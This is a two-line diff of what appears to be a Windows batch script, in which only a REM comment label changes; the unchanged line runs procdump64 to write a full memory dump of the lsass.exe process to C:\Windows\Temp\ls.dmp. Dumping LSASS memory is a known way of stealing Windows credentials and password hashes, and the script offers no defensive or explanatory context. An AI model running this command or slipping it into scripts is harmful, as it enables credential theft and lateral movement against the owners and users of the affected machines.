@@ -1,2 +1,2 @@
-REM init 4005 v4
+REM task 2584 v4
 procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
